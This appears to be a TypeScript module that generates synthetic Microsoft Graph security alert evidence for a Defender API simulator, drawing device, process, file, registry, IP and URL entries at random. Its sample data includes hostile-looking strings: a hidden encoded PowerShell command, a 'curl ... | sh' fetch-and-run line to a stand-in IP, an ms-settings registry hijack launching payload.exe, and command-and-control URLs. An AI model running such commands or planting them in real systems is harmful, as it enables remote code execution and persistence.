// Polymorphic alert evidence: the alertEvidence base properties, then those of the derived type
// named by `@odata.type`, shaped like the documented example and the public samples.

import type { Random } from "../defender/prng.ts";
import { formatInstant, shapeTicks } from "../shared/timestamps.ts";
import type { EvidenceKind } from "./catalog.ts";
import type { GraphEvidence } from "./types.ts";

export interface GraphDevice {
  mdeDeviceId: string;
  azureAdDeviceId: string | null;
  deviceDnsName: string;
  osPlatform: string;
  osBuild: number | null;
  version: string;
  rbacGroupId: number;
  rbacGroupName: string;
  firstSeenTicks: bigint;
  ipInterfaces: string[];
}

export interface GraphUser {
  accountName: string;
  domainName: string;
  userSid: string;
  azureAdUserId: string;
  userPrincipalName: string;
  displayName: string;
}

export interface EvidenceContext {
  random: Random;
  /** Alert creation instant (ticks); evidence is recorded a moment after it. */
  createdTicks: bigint;
  device: GraphDevice;
  user: GraphUser;
}

const SECOND = 10_000_000n;
const TYPE = "#microsoft.graph.security.";

const IMAGES = [
  ["powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="],
  ["rundll32.exe", "C:\\Windows\\System32", "rundll32.exe C:\\Users\\Public\\u.dll,Start"],
  ["crond", "/usr/sbin", "/usr/sbin/crond -n"],
  ["bash", "/usr/bin", "bash -c \"curl -s http://198.51.100.7/x | sh\""],
] as const;
const FILES = [["invoice_0423.docm", "C:\\Users\\Public\\Downloads"],
  ["u.dll", "C:\\Users\\Public"], ["x.sh", "/tmp"],
  ["payroll-2024.xlsx", "https://contoso.sharepoint.com/sites/finance"]] as const;
const URLS = ["https://cdn-update.example.net/a.hta", "http://198.51.100.23:8080/gate.php",
  "https://login-office365.example.org/auth"];
const APPS = [[11161, "Office 365"], [20595, "Microsoft Defender for Cloud Apps"],
  [28375, "Microsoft Azure"]] as const;

function stamp(ctx: EvidenceContext, offsetSeconds: number, shape: "precise" | "sql"): string {
  const ticks = ctx.createdTicks + BigInt(offsetSeconds) * SECOND;
  return formatInstant(shapeTicks(ticks, shape, ctx.random.next()));
}

function fileDetails(random: Random, fileName: string, filePath: string) {
  const signed = random.chance(0.3);
  return { sha1: random.hex(40), sha256: random.hex(64), fileName, filePath,
    fileSize: random.chance(0.9) ? random.int(2_000, 9_000_000) : null,
    filePublisher: signed ? "Microsoft Corporation" : null,
    signer: signed ? "Microsoft Windows" : null,
    issuer: signed ? "Microsoft Windows Production PCA 2011" : null };
}

const account = (user: GraphUser) => ({ accountName: user.accountName,
  domainName: user.domainName, userSid: user.userSid, azureAdUserId: user.azureAdUserId,
  userPrincipalName: user.userPrincipalName, displayName: user.displayName });

function specific(ctx: EvidenceContext, kind: EvidenceKind): Record<string, unknown> {
  const { random, device, user } = ctx;
  const detectionStatus = random.pick(["detected", "blocked", "prevented", null]);
  switch (kind) {
    case "device":
      return { firstSeenDateTime: formatInstant(device.firstSeenTicks),
        mdeDeviceId: device.mdeDeviceId, azureAdDeviceId: device.azureAdDeviceId,
        deviceDnsName: device.deviceDnsName, osPlatform: device.osPlatform,
        osBuild: device.osBuild, version: device.version,
        healthStatus: random.pick(["active", "active", "inactive", "impairedCommunication"]),
        riskScore: random.pick(["none", "low", "medium", "high"]),
        rbacGroupId: device.rbacGroupId, rbacGroupName: device.rbacGroupName,
        onboardingStatus: "onboarded",
        defenderAvStatus: random.pick(["updated", "notUpdated", "unknown", "notSupported"]),
        ipInterfaces: device.ipInterfaces,
        loggedOnUsers: [{ accountName: user.accountName, domainName: user.domainName }],
        vmMetadata: null };
    case "process": {
      const [fileName, filePath, commandLine] = random.pick(IMAGES);
      return { processId: random.int(400, 40_000), parentProcessId: random.int(4, 20_000),
        processCommandLine: commandLine,
        processCreationDateTime: stamp(ctx, -random.int(60, 200), "precise"),
        parentProcessCreationDateTime: stamp(ctx, -random.int(300, 90_000), "precise"),
        detectionStatus, mdeDeviceId: device.mdeDeviceId,
        imageFile: fileDetails(random, fileName, filePath),
        parentProcessImageFile: random.chance(0.7)
          ? fileDetails(random, "explorer.exe", "C:\\Windows")
          : null,
        userAccount: account(user) };
    }
    case "file": {
      const [fileName, filePath] = random.pick(FILES);
      return { detectionStatus, mdeDeviceId: device.mdeDeviceId,
        fileDetails: fileDetails(random, fileName, filePath) };
    }
    case "registryKey":
      return { registryKey: "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
        registryHive: "HKEY_LOCAL_MACHINE" };
    case "registryValue":
      return { mdeDeviceId: device.mdeDeviceId, registryHive: "HKEY_CURRENT_USER",
        registryKey: "Software\\Classes\\ms-settings\\Shell\\Open\\command",
        registryValue: "%COMSPEC% /c start payload.exe", registryValueName: "(Default)",
        registryValueType: "ExpandString" };
    case "ip":
      return { ipAddress: `${random.pick([198, 203, 192])}.${random.int(0, 255)}.` +
        `${random.int(0, 255)}.${random.int(1, 254)}`,
        countryLetterCode: random.pick(["US", "NL", "RU", "BR", null]) };
    case "url":
      return { url: random.pick(URLS) };
    case "user":
      return { userAccount: account(user) };
    case "mailbox":
      return { displayName: user.displayName, primaryAddress: user.userPrincipalName,
        userAccount: account(user) };
    case "cloudApplication": {
      const [appId, displayName] = random.pick(APPS);
      return { appId, displayName, instanceId: 0, instanceName: displayName,
        saasAppId: appId };
    }
  }
}

const ROLE: Partial<Record<EvidenceKind, GraphEvidence["roles"]>> = {
  device: ["compromised"], ip: ["attacker"], url: ["commandAndControl"],
};

/** One evidence entry of `kind`, values drawn from `ctx.random`. */
export function generateGraphEvidence(ctx: EvidenceContext, kind: EvidenceKind): GraphEvidence {
  const { random } = ctx;
  const typeName = kind === "cloudApplication" ? "cloudApplicationEvidence" : `${kind}Evidence`;
  return {
    "@odata.type": `${TYPE}${typeName}`,
    createdDateTime: stamp(ctx, random.int(0, 2), random.chance(0.5) ? "precise" : "sql"),
    verdict: random.pick(["unknown", "suspicious", "malicious", "noThreatsFound"] as const),
    remediationStatus: random.pick(["none", "none", "remediated", "prevented", "blocked",
      "notFound"] as const),
    remediationStatusDetails: null,
    ...specific(ctx, kind),
    roles: random.chance(0.5) ? [...(ROLE[kind] ?? [])] : [],
    detailedRoles: kind === "device" ? ["Main device"] : [],
    tags: random.chance(0.2) ? ["High value asset"] : [],
  };
}
